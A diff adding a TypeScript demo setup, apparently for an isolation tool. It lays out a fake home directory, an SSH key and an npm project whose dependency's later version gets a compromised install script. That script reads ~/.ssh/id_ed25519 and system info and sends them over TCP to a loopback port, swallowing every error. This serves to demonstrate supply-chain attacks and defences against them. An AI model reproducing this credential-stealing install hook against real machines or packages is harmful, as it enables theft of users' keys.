@@ -1,0 +1,113 @@
+/**
+ * What the demo plays with: a home directory with a key in it, a project, and two versions of what it depends on. All of
+ * it is made up and lies in one directory of its own.
+ *
+ *   home/.ssh/id_ed25519           no key, but where one would be
+ *   home/hello/                    the project
+ *   home/hello/vendor/greet/       its dependency, with an install script
+ *   home/greet-1.0.1/install.js    what the dependency comes with one day
+ */
+import { randomBytes } from "node:crypto";
+import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { CliError } from "../error.ts";
+
+const INSTALL = `const { execFileSync } = require("node:child_process");
+
+execFileSync("node", ["compile.js"]);
+`;
+
+/** Lines of the install script that are the same in both versions. */
+export const INNOCENT_LINES = INSTALL.split("\n").length - 1;
+
+/** What published malware does, step by step, each of which may fail unnoticed; here it only reaches the demo itself. */
+const compromised = (port: number) => `${INSTALL}
+const attempt = (step) => { try { return String(step()); } catch { return "nothing"; } };
+const key = attempt(() => require("node:fs").readFileSync(process.env.HOME + "/.ssh/id_ed25519"));
+const system = attempt(() => execFileSync("uname", ["-sr"], { env: {} }));
+require("node:net").connect(${port}, "127.0.0.1").on("error", () => {}).end(JSON.stringify({ key, system }));
+`;
+
+const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;
+
+const PROJECT: Readonly<Record<string, string>> = {
+  "package.json": json({
+    name: "hello",
+    version: "1.0.0",
+    private: true,
+    scripts: { test: "node test.js" },
+    dependencies: { greet: "file:vendor/greet" },
+    // Newer npm runs install scripts of those dependencies only that somebody approved; somebody did.
+    allowScripts: { "file:../vendor/greet": true },
+  }),
+  // Whatever npm is told on this machine, here it runs install scripts and asks nobody.
+  ".npmrc":
+    "ignore-scripts=false\noffline=true\npackage-lock=false\naudit=false\nfund=false\nupdate-notifier=false\nprogress=false\n",
+  "test.js": `const { greet } = require("greet");
+
+require("node:assert").equal(greet("you"), "Hello, you!");
+console.log("ok: " + greet("you"));
+`,
+  "vendor/greet/package.json": json({
+    name: "greet",
+    version: "1.0.0",
+    main: "index.js",
+    scripts: { install: "node install.js" },
+  }),
+  "vendor/greet/index.js": `const phrases = require("./phrases.json");
+
+exports.greet = (name) => phrases.hello + ", " + name + "!";
+`,
+  "vendor/greet/install.js": INSTALL,
+  "vendor/greet/compile.js": `require("node:fs").writeFileSync("phrases.json", JSON.stringify({ hello: "Hello" }));\n`,
+};
+
+export interface Place {
+  readonly home: string;
+  readonly project: string;
+  /** What the key file holds. */
+  readonly key: string;
+  /** The newer version of the dependency, which reports to this port on the loopback address. */
+  publishCompromised(port: number): void;
+  remove(): void;
+}
+
+/** Lays everything out in a new directory among the temporary ones. */
+export function layOut(): Place {
+  const root = newDirectory();
+  const home = join(root, "home");
+  const project = join(home, "hello");
+  const key = `made-up-key-${randomBytes(8).toString("hex")}`;
+  const remove = () => rmSync(root, { recursive: true, force: true });
+  try {
+    for (const [path, text] of Object.entries(PROJECT)) write(join(project, path), text);
+    write(join(home, ".ssh/id_ed25519"), `${key}\n`);
+    chmodSync(join(home, ".ssh/id_ed25519"), 0o600);
+  } catch (fault) {
+    remove();
+    throw fault;
+  }
+  return {
+    home,
+    project,
+    key,
+    publishCompromised: (port) => write(join(home, "greet-1.0.1/install.js"), compromised(port)),
+    remove,
+  };
+}
+
+function newDirectory(): string {
+  const parent = tmpdir();
+  try {
+    return realpathSync(mkdtempSync(join(parent, "isoline-demo-")));
+  } catch (fault) {
+    const message = `the demo needs a directory of its own in ${parent}: ${(fault as Error).message}; set TMPDIR`;
+    throw new CliError("cannot-write", message, { cause: fault });
+  }
+}
+
+function write(path: string, text: string): void {
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, text);
+}
